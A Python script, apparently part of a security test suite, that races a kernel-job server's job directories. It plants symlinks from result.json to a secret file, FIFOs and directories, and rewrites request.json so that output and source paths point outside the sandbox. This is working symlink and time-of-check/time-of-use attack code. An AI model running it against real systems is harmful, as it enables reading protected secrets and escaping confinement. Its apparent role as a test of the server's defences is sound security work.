"""Run by pkg_rracer.py in the confined describe worker: python rracer.py JOBS SECRET OUTSIDE SECS LOG.
Every new directory in the server's kernel jobs directory gets, in turn: result.json a link to SECRET;
result.json a FIFO; result.json a directory; request.json rewritten (out_root and kernel_source OUTSIDE)."""

import json
import os
import sys
import time

jobs, secret, outside, secs, logp = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), sys.argv[5]
log = open(logp, "a", buffering=1)
log.write(f"rracer pid {os.getpid()} uid {os.getuid()} jobs {jobs}\n")
seen, n, end = set(), 0, time.time() + secs
own = os.path.dirname(os.environ.get("TMPDIR", ""))
while time.time() < end:
    for sub in os.listdir(jobs):
        d = os.path.join(jobs, sub)
        if d in seen or d == own or not os.path.isdir(d):
            continue
        seen.add(d)
        way = n % 4
        n += 1
        try:
            if way == 0:
                os.symlink(secret, os.path.join(d, "result.json"))
            elif way == 1:
                os.mkfifo(os.path.join(d, "result.json"))
            elif way == 2:
                os.mkdir(os.path.join(d, "result.json"))
            else:
                req = os.path.join(d, "request.json")
                for _ in range(2000):
                    if os.path.exists(req):
                        break
                    time.sleep(0.0005)
                r = json.load(open(req))
                r["out_root"], r["kernel_source"] = outside, outside
                os.unlink(req)
                with open(req, "w") as f:
                    json.dump(r, f)
            log.write(f"{sub}: way {way} planted\n")
        except Exception as e:  # noqa: BLE001
            log.write(f"{sub}: way {way} {type(e).__name__}: {e}\n")
    time.sleep(0.0005)
log.write(f"rracer done, {n} directories\n")
